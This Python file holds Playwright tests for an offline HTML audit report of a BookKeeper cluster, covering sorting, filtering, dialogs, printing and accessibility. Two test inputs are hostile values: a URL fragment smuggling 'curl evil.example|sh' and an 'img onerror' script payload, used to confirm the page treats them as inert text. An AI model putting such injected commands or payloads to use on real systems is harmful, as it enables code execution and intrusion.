"""Tests of the page in Chromium: it requests nothing but its file, sorts, filters, and keeps text text."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Locator, Page, expect, sync_playwright

from tests.reports.html.pages import LOUD, MARKUP, giant, small

CHROMIUM = shutil.which("chromium")
FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-sync",
]
WIDE, NARROW = 1280, 360


@dataclass
class OpenedPage:
    """An opened page, with its console messages, script errors and requests."""

    page: Page
    url: str
    messages: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)

    def rows(self, table: str = "table.findings") -> list[str]:
        """Return the text of the rows of a table that the page currently contains."""
        return self.page.locator(f"{table} tbody tr:not(.empty)").all_inner_texts()

    def column(self, table: str, number: int) -> list[str]:
        return self.page.locator(f"{table} tbody tr:not(.empty) > :nth-child({number})").all_inner_texts()

    def expect_shown(self, words: str) -> None:
        """Wait until the line above the findings has the given text."""
        expect(self.page.locator("#shown")).to_have_text(words)

    def unroll(self) -> None:
        """Make the window so tall that every row is visible."""
        self.page.evaluate("document.getElementById('list').style.maxHeight = 'none'")
        self.page.set_viewport_size({"width": WIDE, "height": 9_000})


def boxes(places: Locator) -> list[dict[str, float]]:
    """Return the bounding rectangle of each element, all in one call."""
    rectangles: list[dict[str, float]] = places.evaluate_all(
        "nodes => nodes.map((node) => node.getBoundingClientRect().toJSON())"
    )
    return rectangles


def numbers(texts: list[str]) -> list[int]:
    """Return the number at the start of each text that begins with one."""
    return [int(match[0]) for text in texts if (match := re.match(r"-?\d+", text))]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if CHROMIUM is None:
        pytest.skip("needs chromium")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture
def opened(browser: Browser, tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[OpenedPage]:
    """Yield a small cluster's page, or as the test's parameter sets; fail on messages or other requests."""
    how: dict[str, Any] = {"width": WIDE, "scheme": "light", "text": small} | getattr(request, "param", {})
    file = tmp_path / "report.html"
    file.write_text(how["text"](), "utf-8")
    context = browser.new_context(
        viewport={"width": how["width"], "height": 800},
        color_scheme=how["scheme"],
        # What is scrolled on the way to a place is not waited for.
        reduced_motion="reduce",
        java_script_enabled=how.get("script", True),
    )
    # A busy machine draws the page of a giant cluster in more than the 30 seconds of the default.
    context.set_default_timeout(120_000)
    page = context.new_page()
    opened_page = OpenedPage(page, file.as_uri())
    page.on("console", lambda message: opened_page.messages.append(f"{message.type}: {message.text}"))
    page.on("pageerror", lambda error: opened_page.messages.append(str(error)))
    page.on("request", lambda sent_request: opened_page.requests.append(sent_request.url))
    page.goto(opened_page.url + how.get("at", ""))
    if how.get("script", True):
        page.wait_for_selector("#list.virtual")
    yield opened_page
    assert not opened_page.messages
    # The icon is written out in the page itself.
    assert {url.partition("#")[0] for url in opened_page.requests} - {"data:,"} == {opened_page.url}
    context.close()


def test_hostile_text_is_shown_and_not_executed(opened: OpenedPage) -> None:
    assert opened.page.title().startswith("Not healthy: BookKeeper audit of ")
    assert LOUD in opened.page.locator("body").inner_text()
    assert opened.page.locator("img").count() == 0


@pytest.mark.parametrize("opened", [{"script": False}], indirect=True)
def test_page_without_script_shows_all_findings(opened: OpenedPage) -> None:
    assert len(opened.rows()) == 45
    assert not opened.page.locator("#filters").is_visible()


def test_findings_are_sorted_by_the_numbers_of_ledgers(opened: OpenedPage) -> None:
    opened.unroll()
    head = opened.page.get_by_role("columnheader", name="Ledger", exact=True)
    assert head.get_attribute("aria-sort") is None
    head.get_by_role("button").click()
    assert head.get_attribute("aria-sort") == "ascending"
    shown = opened.column("table.findings", 3)
    ids = numbers(shown)
    assert ids == sorted(ids), "ids that a double cannot tell apart, and a negative one"
    assert len(set(ids)) == len(ids) == 44
    head.get_by_role("button").click()
    assert head.get_attribute("aria-sort") == "descending"
    turned = opened.column("table.findings", 3)
    assert numbers(turned) == ids[::-1]
    assert (shown[-1], turned[-1]) == ("", ""), "what has no ledger is last, either way"


def test_bookies_are_sorted_by_any_column(opened: OpenedPage) -> None:
    table = opened.page.locator("table.bookies")
    table.get_by_role("columnheader", name="Orphan ledgers").get_by_role("button").click()
    table.get_by_role("columnheader", name="Orphan ledgers").get_by_role("button").click()
    assert opened.column("table.bookies", 11) == ["12", "0", "0", "0"]
    assert opened.rows("table.bookies")[0].startswith("bk-b:3181")


def test_findings_are_filtered_by_words_severity_and_check(opened: OpenedPage) -> None:
    page = opened.page
    opened.expect_shown("All 45 findings.")
    page.keyboard.press("/")
    page.keyboard.type("Finding BK-17:3181")
    opened.expect_shown("1 of 45 findings.")
    assert ["finding number 17" in row for row in opened.rows()] == [True]
    page.get_by_role("button", name="Clear").click()
    opened.expect_shown("All 45 findings.")
    page.get_by_role("checkbox", name="note").uncheck()
    opened.expect_shown("3 of 45 findings.")
    page.get_by_role("combobox", name="Check", exact=True).select_option("entry-lost")
    opened.expect_shown("1 of 45 findings.")
    page.get_by_role("checkbox", name="critical").uncheck()
    opened.expect_shown("0 of 45 findings.")
    assert opened.rows() == []


def test_cause_link_filters_the_findings_of_the_cause(opened: OpenedPage) -> None:
    opened.page.get_by_role("link", name=f"40 findings: the disks of {LOUD} are gone").click()
    opened.expect_shown("40 of 45 findings.")
    assert all("orphan-ledger" in row for row in opened.rows())


def test_fingerprint_search_needs_the_whole_fingerprint(opened: OpenedPage) -> None:
    search = opened.page.get_by_label("Search")
    search.fill("0000000000000007")
    opened.expect_shown("1 of 45 findings.")
    search.fill("00000000000000")
    opened.expect_shown("0 of 45 findings.")


def test_filters_and_sorting_are_kept_in_the_address(opened: OpenedPage) -> None:
    page = opened.page
    page.get_by_label("Search").fill("bk-1")
    page.get_by_role("checkbox", name="critical").uncheck()
    page.get_by_role("columnheader", name="Bookie").first.get_by_role("button").click()
    page.locator("table.findings").get_by_role("button", name="Ledger").click()
    page.locator("table.findings").get_by_role("button", name="Ledger").click()
    before = page.locator("#shown").inner_text(), opened.rows()
    assert before[0].endswith(" of 45 findings.")
    address = page.url
    page.goto("about:blank")
    page.goto(address)
    page.wait_for_selector("#list.virtual")
    assert (page.locator("#shown").inner_text(), opened.rows()) == before
    assert page.get_by_label("Search").input_value() == "bk-1"


def test_suppressed_findings_can_be_hidden_or_shown_alone(opened: OpenedPage) -> None:
    page = opened.page
    assert "entry-lost" not in opened.rows()[0], "the only critical one is suppressed"
    choice = page.get_by_role("combobox", name="Suppressed")
    choice.select_option("only suppressed")
    opened.expect_shown("1 of 45 findings.")
    [row] = opened.rows()
    assert row.startswith("critical")
    assert "suppressed" in row
    choice.select_option("hidden")
    opened.expect_shown("44 of 45 findings.")
    assert not [row_text for row_text in opened.rows() if row_text.startswith("critical")]


@pytest.mark.parametrize("opened", [{"text": giant}], indirect=True)
def test_only_visible_rows_are_in_the_page(opened: OpenedPage) -> None:
    page = opened.page
    opened.expect_shown("All 3,000 findings.")
    assert len(opened.rows()) < 60
    expect(page.locator('table.findings tr[aria-rowindex="2"]')).to_be_visible()
    page.locator("#list").focus()
    # A key that comes before the list is in sight scrolls nothing.
    expect(page.locator("#list")).to_be_in_viewport()
    page.keyboard.press("End")
    last = page.locator('table.findings tr[aria-rowindex="3001"]')
    expect(last).to_be_in_viewport()
    assert len(opened.rows()) < 60


def test_ledger_link_opens_the_drawing_in_a_dialog(opened: OpenedPage) -> None:
    page, dialog = opened.page, opened.page.get_by_role("dialog")
    page.get_by_label("Search").fill("below-ack-quorum")
    opened.expect_shown("1 of 45 findings.")
    page.locator("table.findings").get_by_role("link", name="7", exact=True).click()
    expect(
        dialog.get_by_role("table", name=re.compile("^Ledger 7: entries that each bookie has"))
    ).to_be_visible()
    dialog.get_by_role("listitem").get_by_role("link").click()
    expect(dialog.get_by_role("heading", name="below-ack-quorum")).to_be_visible()
    page.go_back()
    expect(dialog.get_by_role("heading", name="Ledger 7")).to_be_visible()
    page.keyboard.press("Escape")
    expect(dialog).not_to_be_visible()
    # The filter stays; the address follows the dialog's end.
    expect(page).to_have_url(re.compile("#find=below-ack-quorum$"))


def test_bookie_link_opens_a_dialog_with_a_link_to_its_findings(opened: OpenedPage) -> None:
    page, dialog = opened.page, opened.page.get_by_role("dialog")
    page.locator("table.bookies").get_by_role("link", name="bk-a:3181").click()
    expect(dialog.get_by_role("row", name="Entries missing 9 of 40 replicas")).to_be_visible()
    assert dialog.locator("code.command").inner_text() == "bkaudit explain bookie bk-a:3181 --run /runs/last"
    dialog.get_by_role("link", name="Findings that name it").click()
    expect(dialog).not_to_be_visible()
    assert page.get_by_label("Search").input_value() == "bk-a:3181"


@pytest.mark.parametrize(
    ("opened", "commands"),
    [
        ({"at": f"#ledger={2**62}"}, [f"bkaudit explain ledger {2**62} --run /runs/last"]),
        ({"at": "#bookie=x%3Bcurl+evil.example|sh"}, []),
        ({"at": "#finding=%3Cimg+src=x+onerror=alert(1)%3E"}, []),
    ],
    indirect=["opened"],
)
def test_undrawn_object_has_a_command_of_the_run_and_none_of_the_address(
    opened: OpenedPage, commands: list[str]
) -> None:
    dialog = opened.page.get_by_role("dialog")
    expect(dialog).to_contain_text("This page has no picture of it.")
    assert dialog.locator("code.command").all_inner_texts() == commands
    assert opened.page.locator("img").count() == 0


@pytest.mark.parametrize("opened", [{"at": "#finding=00000000000000ff"}], indirect=True)
def test_packed_hostile_text_is_shown_as_text(opened: OpenedPage) -> None:
    dialog = opened.page.get_by_role("dialog")
    expect(dialog).to_contain_text(MARKUP + LOUD[:20])
    assert "evidence" not in opened.page.title()
    assert opened.page.title().startswith("Not healthy: ")
    assert dialog.locator("script, img, style").count() == 0
    opened.page.goto(f"{opened.url}#{urlencode({'bookie': MARKUP})}")
    expect(dialog.get_by_role("heading", name=MARKUP)).to_be_visible()
    assert opened.page.locator("img").count() == 0
    assert opened.page.title().startswith("Not healthy: ")


@pytest.mark.parametrize("opened", [{"at": "#bookie=bk-a:3181"}], indirect=True)
def test_copy_button_confirms_the_copy(opened: OpenedPage) -> None:
    page = opened.page
    button = page.get_by_role("dialog").locator("code.command + .copy")
    button.click()
    expect(button).to_have_text(re.compile("Copied|Selected"))


def test_printed_page_has_filtered_rows_without_cut_text(opened: OpenedPage) -> None:
    page = opened.page
    page.get_by_role("checkbox", name="note").uncheck()
    opened.expect_shown("3 of 45 findings.")
    page.emulate_media(media="print")
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    assert len(opened.rows()) == 3
    assert not page.locator(".copy").first.is_visible()
    message = page.locator("table.findings tbody p").last
    assert message.evaluate("node => node.scrollHeight <= node.clientHeight"), "nothing of it is cut"


def test_page_controls_are_reachable_by_keyboard(opened: OpenedPage) -> None:
    page = opened.page
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to the findings"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
    reached = []
    for _ in range(40):
        page.keyboard.press("Tab")
        reached.append(page.evaluate("document.activeElement.textContent.trim()"))
        if reached[-1] == "Unconfirmed":
            break
    page.keyboard.press("Enter")
    assert page.get_by_role("columnheader", name="Unconfirmed").get_attribute("aria-sort") == "ascending"
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline == "solid", "the focus is seen"


def test_check_name_links_to_its_advice(opened: OpenedPage) -> None:
    page = opened.page
    advice = page.locator("#check-entry-lost")
    assert not advice.get_by_text("Why it matters").is_visible()
    page.locator("table.checks").get_by_role("link", name="entry-lost").click()
    advice.get_by_text("Why it matters").wait_for()
    assert "Risk:" in advice.inner_text()


@pytest.mark.parametrize(
    "opened",
    [
        {"scheme": "light"},
        {"scheme": "dark"},
        {"width": NARROW},
    ],
    ids=["light", "dark", "narrow"],
    indirect=True,
)
def test_page_has_no_accessibility_violation(opened: OpenedPage) -> None:
    opened.page.evaluate("document.querySelectorAll('details').forEach((each) => (each.open = true))")
    opened.page.evaluate("location.hash = '#ledger=42'")
    opened.page.get_by_role("dialog").wait_for()
    violations = Axe().run(opened.page).response["violations"]
    summaries = [
        (violation["id"], [node["html"][:160] for node in violation["nodes"][:3]]) for violation in violations
    ]
    assert summaries == []


def test_rows_and_cells_keep_their_roles_in_a_narrow_window(opened: OpenedPage) -> None:
    page = opened.page
    page.set_viewport_size({"width": NARROW, "height": 800})
    row = (
        page.get_by_role("table", name="Findings, the worst first, suppressed ones last")
        .get_by_role("row")
        .nth(2)
    )
    assert row.get_by_role("cell").count() == 5


@pytest.mark.parametrize("opened", [{"width": NARROW}, {"width": NARROW, "text": giant}], indirect=True)
def test_narrow_window_has_no_horizontal_scroll(opened: OpenedPage) -> None:
    opened.page.evaluate("document.querySelectorAll('details').forEach((each) => (each.open = true))")
    assert opened.page.evaluate("document.documentElement.scrollWidth") <= NARROW


def test_dark_page_differs_from_light_and_print_is_light(opened: OpenedPage) -> None:
    page = opened.page
    background = "getComputedStyle(document.body).backgroundColor"
    light = page.evaluate(background)
    page.emulate_media(color_scheme="dark")
    assert page.evaluate(background) != light
    page.emulate_media(media="print", color_scheme="dark")
    assert page.evaluate(background) == "rgb(255, 255, 255)"
    assert page.evaluate("getComputedStyle(document.body).color") == "rgb(27, 32, 38)"
    assert not page.locator("#filters").is_visible()


def test_ledger_drawing_has_text_labels(opened: OpenedPage) -> None:
    page = opened.page
    page.get_by_role("img", name="lacks 11 (1 entry)").first.wait_for()
    picture = page.get_by_role(
        "table", name="Ledger 42: entries that each bookie has and lacks, from 0 to 11"
    )
    row = picture.get_by_role("row", name="bk-a:3181")
    assert row.locator("path.cell.missing").count() == 1
    assert row.locator("path.cell.held").bounding_box() != row.locator("path.cell.missing").bounding_box()


@pytest.mark.parametrize("opened", [{"width": 400}], indirect=True)
def test_counts_fit_a_narrow_screen_and_have_labels(opened: OpenedPage) -> None:
    counts = boxes(opened.page.locator(".cards td.n, .cards thead th"))
    assert len(counts) > 20
    assert all(box["width"] for box in counts)
    assert max(box["right"] for box in counts) <= 400
    unlabelled = opened.page.locator(".cards tbody td.n:not([data-label])")
    assert unlabelled.count() == 0


@pytest.mark.parametrize("opened", [{"width": 400}, {"width": 900}, {"width": WIDE}], indirect=True)
def test_bookie_id_that_fits_is_on_one_line(opened: OpenedPage) -> None:
    ids = opened.page.locator("table.bookies .id bdi", has_text=re.compile(r"^bk-\w:3181$"))
    assert ids.count() > 1
    assert set(ids.evaluate_all("nodes => nodes.map((node) => node.getClientRects().length)")) == {1}
    assert max(box["height"] for box in boxes(ids)) < 30  # one line


def test_history_axes_have_the_largest_count_and_first_and_last_day(opened: OpenedPage) -> None:
    axes = opened.page.locator(".axes")
    assert axes.locator(".y").inner_text().split() == ["8", "0"]
    first, last = axes.locator(".x span").all_inner_texts()
    finished = opened.page.locator("table:has(#runs) tbody td:nth-child(2)").all_inner_texts()
    assert (first, last) == (finished[-1], finished[0])
